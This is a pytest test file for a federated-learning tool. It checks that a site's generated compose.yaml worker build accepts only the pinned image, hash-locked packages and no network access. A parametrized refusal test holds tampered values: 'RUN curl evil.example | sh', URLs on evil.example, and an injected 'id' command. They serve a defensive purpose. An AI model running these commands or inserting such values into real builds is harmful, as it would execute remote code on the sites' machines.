"""The file of a site that builds its worker itself: what is in it, and that nothing else may be."""

import json
import re
import subprocess
import sys

import pytest
from fakes.images import IMAGES, image, lay_out, write
from fixtures.command_line import call
from ruamel.yaml import YAML

from federator.errors import FederatorError
from federator.federation import schema
from federator.images import engine, hashed_packages
from federator.runtime.review import unpack, worker_build
from federator.runtime.review.site_file import SiteFile

WANTED = ("torch==2.13.0", "tqdm==4.67.1")
PACKAGES = (f"torch==2.13.0+cpu --hash=sha256:{'a' * 64}", f"tqdm==4.67.1 --hash=sha256:{'b' * 64}")


@pytest.fixture
def asked(monkeypatch):
    """What the link's image is asked; it answers with two packages."""
    calls = []

    def docker(*arguments, given=""):
        calls.append((arguments, json.loads(given)))
        return "\n".join(reversed(PACKAGES))

    monkeypatch.setattr(engine, "docker", docker)
    return calls


def worker(text):
    return YAML(typ="safe").load(text)["services"]["worker"]


def problems(text):
    return list(SiteFile.parse("compose.yaml", text.encode()).problems)


@pytest.mark.usefixtures("asked")
def test_a_worker_is_built_of_the_links_image_packages_by_hash_and_the_code_shown(tmp_path):
    text = write(lay_out(tmp_path), requirements=WANTED)["north.yaml"]
    built = worker(text)
    assert built["image"] == "tumours-north-worker" and built["pull_policy"] == "build"
    assert built["build"].keys() == {"context", "dockerfile_inline"}
    lines = built["build"]["dockerfile_inline"].splitlines()
    assert f"FROM {IMAGES.link}" in lines
    assert [line.strip(" '\\") for line in lines if "--hash" in line] == list(PACKAGES)
    assert "    python -m federator.runtime unpack /mnt/compose.yaml /app" in lines
    assert str(IMAGES.client) not in text, "the coordinator's image of the worker is not used"
    assert built["network_mode"] == "none"
    check = YAML(typ="safe").load(text)["services"]["check"]
    assert {name: check[name] for name in ("image", "pull_policy", "build")} == {
        name: built[name] for name in ("image", "pull_policy", "build")
    }
    assert problems(text) == []


def test_the_links_image_resolves_and_the_authors_code_does_not_run_there(tmp_path, asked):
    settings = "build: {index: 'https://mirror.org/simple'}\n"
    write(lay_out(tmp_path, settings), requirements=WANTED)
    ((arguments, given),) = asked  # once for all sites
    assert str(IMAGES.link) in arguments and "--read-only" in arguments
    assert given["install"] == list(WANTED)
    assert given["indexes"] == [
        "--index-url=https://mirror.org/simple",
        "--extra-index-url=https://download.pytorch.org/whl/cpu",
    ]


def test_a_site_with_a_gpu_gets_packages_of_its_own(tmp_path, asked):
    made = lay_out(tmp_path)
    path = made.folder / "federation.yaml"
    path.write_text(path.read_text().replace("{name: south}", "{name: south, accelerator: cuda}"))
    texts = write(schema.read(path), requirements=WANTED)
    assert sorted(len(given["indexes"]) for _, given in asked) == [0, 1]
    assert "extra-index-url" not in worker(texts["south.yaml"])["build"]["dockerfile_inline"]
    assert problems(texts["south.yaml"]) == problems(texts["north.yaml"]) == []


def test_without_packages_nothing_is_installed(tmp_path, monkeypatch):
    monkeypatch.setattr(engine, "docker", lambda *_, **__: "")
    text = write(lay_out(tmp_path), requirements=())["north.yaml"]
    assert "pip" not in worker(text)["build"]["dockerfile_inline"]
    assert problems(text) == []


def test_what_is_no_package_is_told(tmp_path, monkeypatch):
    monkeypatch.setattr(engine, "docker", lambda *_, **__: "WARNING: hello")
    with pytest.raises(FederatorError, match="answered 'WARNING: hello' instead of a package"):
        write(lay_out(tmp_path), requirements=WANTED)


ANOTHER = image("another-link", "9")


@pytest.mark.usefixtures("asked")
@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        (f"FROM {IMAGES.link}", f"FROM {ANOTHER}", "another image than the link's"),
        (f"FROM {IMAGES.link}", "FROM python:3.11", "not the Dockerfile"),
        (f" --hash=sha256:{'a' * 64}", "", "not the Dockerfile"),
        ("torch==2.13.0+cpu", "https://evil.example/torch.whl", "not the Dockerfile"),
        ("--require-hashes ", "", "not the Dockerfile"),
        ("        USER 10001:10001", "        RUN curl evil.example | sh", "not the Dockerfile"),
        ("torch==2.13.0+cpu", "torch==2'; id; '", "not the Dockerfile"),
        ("/mnt/compose.yaml /app", "/mnt/other.yaml /app", "not the Dockerfile"),
        ("context: .", "context: https://evil.example/x.git", "build.context is"),
        ("pull_policy: build", "pull_policy: always", "pull_policy is"),
        ("image: tumours-north-worker", "image: docker.io/acme/worker", "not a name"),
        ("context: .", "context: .\n      ssh: [default]", "build.ssh is no setting"),
        ("build: *build", "build: {context: ., dockerfile_inline: FROM alpine}", "services.check"),
    ],
)
def test_another_build_is_refused(tmp_path, old, new, words):
    text = write(lay_out(tmp_path), requirements=WANTED)["north.yaml"]
    assert old in text
    found = problems(text.replace(old, new, 1))
    assert any(words in problem for problem in found), found


@pytest.mark.usefixtures("asked")
def test_the_code_is_unpacked_as_it_is_shown(tmp_path):
    made = lay_out(tmp_path)
    text = write(made, requirements=WANTED)["north.yaml"]
    file = tmp_path / "compose.yaml"
    file.write_text(text)
    command = [sys.executable, "-m", "federator.runtime", "unpack", file, tmp_path / "app"]
    subprocess.run(command, check=True)
    app = tmp_path / "build" / "tumours" / "app"
    written = {path.name: path.read_bytes() for path in (tmp_path / "app").iterdir()}
    assert written == {path.name: path.read_bytes() for path in app.iterdir() if path.is_file()}


@pytest.mark.usefixtures("asked")
def test_a_file_that_no_site_should_take_is_not_unpacked(tmp_path, capsys):
    file = tmp_path / "compose.yaml"
    text = write(lay_out(tmp_path), requirements=WANTED)["north.yaml"]
    file.write_text(text.replace("network_mode: none", "network_mode: host", 1))
    assert unpack.main([str(file), str(tmp_path / "app")]) == 1
    assert not (tmp_path / "app").exists()
    assert "network_mode is “host”" in capsys.readouterr().err


def test_the_program_that_resolves_prints_versions_and_hashes(tmp_path):
    """Run as the link's image runs it, with a stand-in for pip."""
    pip = tmp_path / "pip" / "__main__.py"
    pip.parent.mkdir()
    (tmp_path / "pip" / "__init__.py").touch()
    report = {
        "install": [
            {
                "metadata": {"name": "tqdm", "version": "4.67.1"},
                "download_info": {"archive_info": {"hashes": {"sha256": "c" * 64}}},
            }
        ]
    }
    pip.write_text(
        "import sys\nfrom pathlib import Path\n"
        "named = dict(word[2:].split('=', 1) for word in sys.argv if '=' in word)\n"
        f"assert Path(named['requirement']).read_text() == 'tqdm\\n'\n"
        f"Path(named['report']).write_text({json.dumps(json.dumps(report))})\n"
    )
    program = hashed_packages._RESOLVE.replace("/tmp/", f"{tmp_path}/")
    done = subprocess.run(
        [sys.executable, "-c", program],
        input=json.dumps({"install": ["tqdm"], "versions": [], "indexes": []}),
        env={"PYTHONPATH": str(tmp_path)},
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout == f"tqdm==4.67.1 --hash=sha256:{'c' * 64}\n"


@pytest.mark.usefixtures("asked")
def test_the_command(tmp_path):
    made = lay_out(tmp_path)
    images = {name: str(one) for name, one in IMAGES.by_name().items()}
    (tmp_path / "build" / "tumours" / "images.json").write_text(json.dumps(images))
    write(made)  # the model's size is known then
    done = call("compose", made.folder, "--build-at-site")
    assert done.exit_code == 0, done.output
    assert "dockerfile_inline" in (made.folder / "north.yaml").read_text()
    done = call("compose", made.folder)
    assert done.exit_code == 0
    assert "dockerfile_inline" not in (made.folder / "north.yaml").read_text()


def test_a_dockerfile_is_read_as_it_is_written():
    for packages in ((), PACKAGES):
        text = worker_build.dockerfile(str(IMAGES.link), packages, [("index-url", "https://a.b/c")])
        assert worker_build.base(text) == str(IMAGES.link)
        assert worker_build.base(text + "RUN id\n") is None
    assert re.search(r"^USER 10001:10001$", text, re.MULTILINE)
